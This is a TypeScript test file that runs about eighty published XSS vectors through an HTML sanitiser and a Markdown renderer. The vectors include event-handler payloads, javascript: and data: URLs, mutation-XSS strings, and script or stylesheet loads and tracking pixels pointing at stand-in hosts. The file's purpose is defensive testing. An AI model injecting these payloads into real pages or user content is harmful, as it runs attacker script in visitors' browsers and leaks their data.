import { renderMarkdown } from '@inkroute/contract/markdown'
import { richTextTags } from '@inkroute/contract/rich-text'
import { Window } from 'happy-dom'
import { expect, test } from 'vitest'
import { sanitiseHtml } from './sanitise-html.ts'

/** Published attacks on sanitisers: OWASP's filter evasion list, and mutation attacks that rely on reparsing. */
const vectors = [
  // Event handlers, in the spellings browsers accept.
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<body onload=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<details open ontoggle=alert(1)>',
  '<p/onclick=alert(1)>a</p>',
  '<p onclick\n=\nalert(1)>a</p>',
  '<p ONCLICK=alert(1)>a</p>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>a</marquee>',
  '<a onmouseover="alert(1)">a</a>',
  '<<SCRIPT>alert(1);//<</SCRIPT>',
  '<SCRIPT/XSS SRC="http://evil.example/x.js"></SCRIPT>',
  '<SCRIPT SRC=//evil.example/.j>',
  '</script><script>alert(1)</script>',
  '<ſcript>alert(1)</ſcript>',
  // Addresses that run or leak.
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href=" \x01javascript:alert(1)">a</a>',
  '<a href="jav&#x09;ascript:alert(1)">a</a>',
  '<a href="jav&NewLine;ascript&colon;alert(1)">a</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
  '<a href="feed:javascript:alert(1)">a</a>',
  '<a href="https:/\\evil.example">a</a>',
  '<a href="\\\\evil.example">a</a>',
  '<a href="/\t/evil.example">a</a>',
  '<a xlink:href="javascript:alert(1)">a</a>',
  '<img src="javascript:alert(1)">',
  '<img src=/a.png srcset="https://spy.example/x 1x">',
  '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
  '<base href="javascript:alert(1);//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<form><button formaction=javascript:alert(1)>a</button></form>',
  '<isindex action=javascript:alert(1) type=image>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">a</td></tr></table>',
  // Styles.
  '<p style="background:url(javascript:alert(1))">a</p>',
  '<p style="width:expression(alert(1))">a</p>',
  '<style>@import "javascript:alert(1)";</style>',
  '<style><img src="</style><img src=x onerror=alert(1)>">',
  // Mutations: harmless to one parser, live markup once another has parsed the result.
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><desc><noscript></desc></noscript><img src=x onerror=alert(1)>',
  '<textarea></textarea/><img src=x onerror=alert(1)></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<title><a href="</title><img src=x onerror=alert(1)>">',
  '<iframe><img src=x onerror=alert(1)></iframe>',
  '<noembed><img src="</noembed><img src=x onerror=alert(1)>">',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<option><style></option></select><img src=x onerror=alert(1)></style>',
  '<svg><animate attributeName=href values="#;javascript:alert(1)"><a>a</a></svg>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--!><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '<p title="&quot;><img src=x onerror=alert(1)>">a</p>',
  '<a href="/x" title="--><img src=x onerror=alert(1)>">a</a>',
  `${'<p>'.repeat(500)}<img src=x onerror=alert(1)>`,
  // Attacks in Markdown.
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt&colon;alert(1))',
  '[a](<java\tscript:alert(1)>)',
  '[a](data:text/html;base64,PHNjcmlwdD4=)',
  '[a](//evil.example)',
  '[a](/\\evil.example)',
  '[a](/x "x\\" onmouseover=alert(1) \\"")',
  '![a" onerror="alert(1)](/x)',
  '![a](/x"onerror="alert(1))',
  '![a](https://spy.example/pixel.gif)',
  '[a]: javascript:alert(1)\n\n[a]',
  '<javascript:alert(1)>',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '| a |\n|:-:"onclick=alert(1)|\n| <img src=x onerror=alert(1)> |',
]

const allowedAttributes: Record<string, readonly string[]> = {
  A: ['href', 'target', 'rel'],
  IMG: ['src', 'alt', 'loading'],
  TD: ['colspan', 'rowspan'],
  TH: ['colspan', 'rowspan'],
}

/** What a page would contain, according to a parser that is not the sanitiser's. */
function getElements(html: string) {
  const { document } = new Window()
  document.body.innerHTML = html
  return [...document.body.querySelectorAll('*')]
}

function expectHarmless(html: string): void {
  for (const element of getElements(html)) {
    expect(richTextTags).toContain(element.tagName.toLowerCase())
    for (const { name, value } of element.attributes) {
      expect(allowedAttributes[element.tagName] ?? []).toContain(name)
      if (name === 'href') expect(value).toMatch(/^(\/(?![/\\])|https?:\/\/[^/\\]|mailto:)/i)
      if (name === 'src') expect(value).toMatch(/^\/(?![/\\])/)
    }
  }
}

test.each(vectors)('%s is harmless as HTML and as Markdown', (vector) => {
  expectHarmless(sanitiseHtml(vector))
  expect(sanitiseHtml(sanitiseHtml(vector))).toBe(sanitiseHtml(vector))
  expectHarmless(renderMarkdown(vector))
})

test('what Markdown renders passes the sanitiser unchanged', () => {
  for (const vector of vectors) {
    const html = renderMarkdown(vector)
    expect(getElements(sanitiseHtml(html)).map((element) => element.outerHTML)).toEqual(
      getElements(html).map((element) => element.outerHTML),
    )
  }
})
